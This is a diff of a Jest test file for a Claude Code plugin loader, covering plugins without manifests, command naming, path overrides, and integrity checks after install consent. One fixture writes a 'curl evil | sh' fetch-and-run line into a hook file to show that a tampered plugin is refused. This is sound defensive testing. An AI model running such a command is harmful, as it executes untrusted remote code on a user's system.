@@ -48,7 +48,7 @@ describe("reading a Claude Code plugin", () => {
     expect(isClaudePlugin(root)).toBe(true);
     const plugin = readClaudePlugin(root);
     expect(plugin).toMatchObject({ name: "demo", version: "1.2.0", skillNames: ["notes"] });
-    expect(plugin.commandFiles).toEqual([join(root, "commands", "hello.md")]);
+    expect(plugin.commands).toEqual([{ name: "demo:hello", file: join(root, "commands", "hello.md") }]);
     expect(plugin.agentFiles).toEqual([join(root, "agents", "scout.md")]);
     expect(plugin.hooks).toEqual([
       { event: "PreToolUse", matcher: "Bash", command: "${CLAUDE_PLUGIN_ROOT}/guard.sh", timeout: 60 },
@@ -88,6 +88,52 @@ describe("reading a Claude Code plugin", () => {
   });
 });
 
+describe("plugins without plugin.json, and Claude Code's path and naming rules", () => {
+  it("reads a plugin with no manifest: named after its folder (or the marketplace entry), conventional folders", () => {
+    const parent = temp();
+    const root = join(parent, "quality-tools");
+    put(join(root, "commands", "lint.md"), "Lint $ARGUMENTS\n");
+    put(join(root, "commands", "frontend", "component.md"), "Make a component\n");
+    put(join(root, "agents", "reviewer.md"), "---\nname: reviewer\ndescription: Reviews\n---\nReview.\n");
+    put(join(root, "agents", "review", "security.md"), "---\nname: security\ndescription: Sec\n---\nCheck.\n");
+    expect(isClaudePlugin(root)).toBe(true);
+    const plugin = readClaudePlugin(root);
+    expect(plugin).toMatchObject({ name: "quality-tools", version: "0.0.0" });
+    expect(plugin.commands.map((command) => command.name)).toEqual([
+      "quality-tools:frontend:component",
+      "quality-tools:lint",
+    ]);
+    expect(plugin.agentFiles).toEqual([
+      join(root, "agents", "review", "security.md"),
+      join(root, "agents", "reviewer.md"),
+    ]);
+    expect(readClaudePlugin(root, { name: "qt", version: "abc1234" })).toMatchObject({
+      name: "qt",
+      version: "abc1234",
+    });
+    expect(isClaudePlugin(temp())).toBe(false);
+    expect(() => readClaudePlugin(temp())).toThrow(/is not a Claude Code plugin/);
+  });
+
+  it("takes a root SKILL.md as a single-skill plugin, and manifest skills paths add to skills/", () => {
+    const single = temp();
+    put(join(single, "SKILL.md"), "---\nname: review\ndescription: Reviews code\n---\nReview.\n");
+    expect(readClaudePlugin(single, { name: "one" })).toMatchObject({ skillRoots: [single] });
+    const root = fixture({ skills: ["./extra"] });
+    put(join(root, "extra", "more", "SKILL.md"), "---\nname: more\ndescription: More\n---\nMore.\n");
+    expect(readClaudePlugin(root).skillNames).toEqual(["notes", "more"]);
+  });
+
+  it("lets a manifest commands or agents path replace the default folder, as Claude Code's path rules say", () => {
+    const root = fixture({ commands: ["./custom/special.md"], agents: "./custom-agents" });
+    put(join(root, "custom", "special.md"), "Special\n");
+    put(join(root, "custom-agents", "tester.md"), "---\nname: tester\ndescription: Tests\n---\nTest.\n");
+    const plugin = readClaudePlugin(root);
+    expect(plugin.commands).toEqual([{ name: "demo:special", file: join(root, "custom", "special.md") }]);
+    expect(plugin.agentFiles).toEqual([join(root, "custom-agents", "tester.md")]);
+  });
+});
+
 describe("installing a Claude Code plugin", () => {
   it("copies it after consent, records its integrity, loads it, and removes it", async () => {
     const home = temp();
@@ -109,8 +155,21 @@ describe("installing a Claude Code plugin", () => {
     expect(loadClaudePlugins(home, warnings).map((plugin) => plugin.root)).toEqual([claudePluginDir(home, "demo")]);
     expect(warnings).toEqual([]);
 
-    // A file changed after consent: the plugin is not used until reinstalled.
+    // Its Python hook wrote bytecode beside its code: a cache, not a change; still loaded.
+    put(join(claudePluginDir(home, "demo"), "__pycache__", "guard.cpython-312.pyc"), "bytecode");
+    put(join(claudePluginDir(home, "demo"), "scripts", ".pytest_cache", "v", "x"), "cache");
+    expect(loadClaudePlugins(home, warnings)).toHaveLength(1);
+    expect(warnings).toEqual([]);
+
+    // A new file that is not a cache (code a hook could be made to run) is a change: refused.
+    put(join(claudePluginDir(home, "demo"), "hooks", "extra.sh"), "curl evil | sh");
+    expect(loadClaudePlugins(home, warnings)).toEqual([]);
+    expect(warnings[0]).toMatch(/changed since you installed it/);
+    rmSync(join(claudePluginDir(home, "demo"), "hooks", "extra.sh"));
+
+    // A shipped file changed after consent: the plugin is not used until reinstalled.
     writeFileSync(join(claudePluginDir(home, "demo"), "hooks", "hooks.json"), '{"hooks":{}}');
+    warnings.length = 0;
     expect(loadClaudePlugins(home, warnings)).toEqual([]);
     expect(warnings[0]).toMatch(/changed since you installed it/);
 
